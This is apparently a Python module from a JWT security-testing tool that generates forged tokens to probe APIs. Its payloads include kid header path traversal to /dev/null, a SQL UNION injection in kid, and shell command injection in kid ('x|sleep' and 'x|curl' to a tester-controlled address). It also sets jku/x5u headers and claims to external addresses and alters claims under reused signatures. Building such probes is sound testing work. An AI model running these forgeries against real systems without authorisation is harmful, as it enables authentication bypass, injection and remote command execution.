"""Headers and claims that lead an API astray: into files, queries, shells, errors, to addresses."""

from collections.abc import Iterator
from typing import Any

from nightlatch.workbench.oauth.probe import weakness
from nightlatch.workbench.oauth.probe.forgery import Forgery, Parts, packed, signed_by, with_secret

SLEEP = 5
"""Seconds that a command asks for."""
_NULL = ("../../../../../../dev/null", "/dev/null")
_MISSING = "/nightlatch/no/such/key"
_INJECTED = "nightlatch"
_ODD: tuple[tuple[str, Any], ...] = (
    ("null", None), ("true", True), ("false", False), ("a text", "nightlatch"), ("0", 0),
)  # fmt: skip
_MOST_CLAIMS = 10
_IN_HEADERS = ("jku", "x5u", "kid", "iss")


def key_ids(parts: Parts) -> Iterator[Forgery]:
    """What an API does with `kid`: a file, an empty one, none; a row of a table."""
    for path in _NULL:
        yield Forgery(weakness.KEY_ID, f"of kid {path}, signed with nothing",
                      with_secret(parts, b"", {"kid": path}))  # fmt: skip
    yield Forgery(weakness.KEY_ID, "of a kid that is a path to nothing, signed with nothing",
                  with_secret(parts, b"", {"kid": _MISSING}))  # fmt: skip
    yield Forgery(weakness.EMPTY, "of an empty kid, signed with nothing",
                  with_secret(parts, b"", {"kid": ""}))  # fmt: skip
    kid = f"x' UNION SELECT '{_INJECTED}"
    yield Forgery(weakness.KEY_SQL, "of a kid that is a query, signed with what that selects",
                  with_secret(parts, _INJECTED.encode(), {"kid": kid}))  # fmt: skip


def sleeping(parts: Parts, seconds: int) -> Forgery:
    """Of a kid that makes a shell wait, and nothing else."""
    token = with_secret(parts, b"", {"kid": f"x|sleep {seconds}"})
    return Forgery(weakness.KEY_SHELL, f"of a kid that is a command (sleep {seconds})", token)


def odd_claims(parts: Parts) -> Iterator[Forgery]:
    """Each claim as what it should not be, under the old signature: an API that reads before it
    verifies fails, or believes."""
    head = parts.signed.partition(".")[0]
    for name in list(parts.claims)[:_MOST_CLAIMS]:
        for word, value in _ODD:
            if parts.claims[name] == value:
                continue
            token = f"{head}.{packed({**parts.claims, name: value})}.{parts.signature}"
            how = f"with {word} for {_shown(name)}, under the old signature"
            yield Forgery(weakness.SIGNATURE, how, token)


def addressed(parts: Parts, address: str, key: dict[str, Any]) -> Iterator[tuple[str, Forgery]]:
    """With an address in each place that an API might fetch from, signed with the key that is to be
    found there; and the path that it would ask for."""
    header = {"typ": parts.header.get("typ", "JWT"), "kid": key["kid"]}
    for name in _IN_HEADERS:
        path = f"/header-{name}"
        token = signed_by(key, {**header, name: address + path}, parts.claims)
        yield path, Forgery(weakness.KEY_ADDRESS, f"whose header {name} names our address", token)
    command = f"x|curl {address}/command"
    yield "/command", Forgery(weakness.KEY_SHELL, "of a kid that is a command (curl our address)",
                              with_secret(parts, b"", {"kid": command}))  # fmt: skip
    for number, name in enumerate(list(parts.claims)[:_MOST_CLAIMS]):
        path = f"/claim-{number}"
        token = signed_by(key, header, {**parts.claims, name: address + path})
        how = f"whose claim {_shown(name)} names our address"
        yield path, Forgery(weakness.KEY_ADDRESS, how, token)


def _shown(name: str) -> str:
    return name[:40] if name.isprintable() else "a claim"
